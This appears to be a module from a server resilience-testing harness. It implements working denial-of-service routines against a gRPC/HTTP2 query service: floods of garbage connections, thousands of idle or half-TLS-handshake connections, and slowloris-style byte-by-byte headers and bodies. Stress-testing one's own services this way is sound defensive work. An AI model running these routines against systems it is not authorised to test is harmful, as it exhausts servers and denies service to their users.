"""Attacks by connections: many new ones, many idle ones, and many that send slowly."""
import functools
import random
import resource
import socket
import struct
import time

import wire
from job import Attack, Lost, one

QUERY = "/locus.v1.QueryService/Query"
GARBAGE_BYTES = 64
SPARE_DESCRIPTORS = 200
HALF_HELLO = b"\x16\x03\x01\x02\x00\x01"  # beginning of a TLS record of 512 bytes
SEED = 7


def room(wanted):
    """Returns `wanted`, but not more than the number of sockets that this process may open."""
    return min(wanted, resource.getrlimit(resource.RLIMIT_NOFILE)[0] - SPARE_DESCRIPTORS)


def quick_close(sock):
    """Closes a socket with a reset, so that its local port is free again at once."""
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    sock.close()


def raw(job):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(2)
    try:
        sock.connect((job.target.host, job.target.port))
        return sock
    except ConnectionRefusedError as error:
        sock.close()
        raise Lost() from error
    except OSError:
        sock.close()
        return None


def garbage(job, keep):
    """Opens connections as fast as possible, sends random bytes on each, and keeps the last `keep` of them open."""
    chance, sockets, made, failed = random.Random(SEED), [], 0, 0
    keep = room(keep)
    junk = [bytes(chance.randrange(256) for _ in range(GARBAGE_BYTES)) for _ in range(64)]
    while not job.over():
        sock = raw(job)
        if sock is None:
            failed += 1
            continue
        made += 1
        try:
            sock.send(junk[made % len(junk)])
        except OSError:
            pass
        sockets.append(sock)
        if len(sockets) > keep:
            quick_close(sockets.pop(0))
    for sock in sockets:
        quick_close(sock)
    job.count("CONNECTIONS", made)
    job.count("NO CONNECTION", failed)


def garbage_steps(job):
    return [(f"{keep} kept", functools.partial(garbage, keep=keep)) for keep in (17000, 0)]


def hold(job, opened, speak):
    """Keeps the connections open until the time is over, and meanwhile calls speak() for one connection after another.
    """
    at = 0
    while not job.over() and opened:
        at = (at + 1) % len(opened)
        try:
            speak(opened[at])
        except (wire.Closed, OSError):
            quick_close(opened.pop(at).sock)
        if at == 0:
            time.sleep(0.05)


def open_many(job, count, **options):
    """Opens `count` connections, for at most twice the duration of the attack. Returns the connections that were
    accepted.
    """
    opened, until = [], time.monotonic() + 2 * job.seconds
    while len(opened) < room(count) and time.monotonic() < until:
        try:
            opened.append(job.connect(grant=False, **options))
        except (wire.Closed, OSError):
            job.count("NO CONNECTION")
            time.sleep(0.01)
    job.count("CONNECTIONS", len(opened))
    job.until = time.monotonic() + job.seconds / 2
    return opened


def release(opened):
    for connection in opened:
        quick_close(connection.sock)


def idle(job, count, handshake):
    opened = open_many(job, count, handshake=handshake)
    while not job.over():
        time.sleep(0.05)
    release(opened)


def half_handshakes(job):
    """Opens connections that send the first bytes of a TLS handshake and then nothing more. Without TLS, sends an
    invalid HTTP/2 preface instead.
    """
    sockets, until = [], time.monotonic() + 2 * job.seconds
    while len(sockets) < room(5000) and time.monotonic() < until:
        sock = raw(job)
        if sock is not None:
            sock.send(HALF_HELLO)
            sockets.append(sock)
    job.until = time.monotonic() + job.seconds / 2
    while not job.over():
        time.sleep(0.05)
    for sock in sockets:
        quick_close(sock)


def idle_steps(job):
    return [("half a handshake", half_handshakes)] + [(name, functools.partial(idle, count=5000, handshake=handshake))
            for name, handshake in (("after the preface", True), ("silent", False))]


def slow_headers(job):
    """Sends headers byte by byte on many connections."""
    opened = open_many(job, 1000)
    for connection in opened:
        connection.rest = wire.frame(wire.HEADERS, wire.END_HEADERS, 1, wire.header_block(wire.grpc_fields(QUERY)) * 20)

    def speak(connection):
        connection.try_send(connection.rest[:1])
        connection.rest = connection.rest[1:]
        connection.receive()
    hold(job, opened, speak)
    release(opened)


def slow_bodies(job):
    """Declares messages of 1 MiB on many connections and sends them byte by byte."""
    opened = open_many(job, 1000)
    for connection in list(opened):
        try:
            stream = connection.start(QUERY)
            connection.send(wire.frame(wire.DATA, 0, stream, struct.pack(">BI", 0, 1 << 20)))
        except (wire.Closed, OSError):
            opened.remove(connection)

    def speak(connection):
        connection.try_send(wire.frame(wire.DATA, 0, 1, b"\x0a"))
        connection.receive()
    hold(job, opened, speak)
    release(opened)


ROWS = [
    Attack("garbage", "connections", garbage_steps, "new connections with random bytes, as many as possible",
           "17,000 at once, or the descriptors that the process may have"),
    Attack("idle", "connections", idle_steps, "connections that do nothing", "5,000 at once"),
    Attack("slow-headers", "connections", one(slow_headers), "headers byte by byte", "1,000 connections"),
    Attack("slow-bodies", "connections", one(slow_bodies), "bodies byte by byte", "1,000 connections"),
]
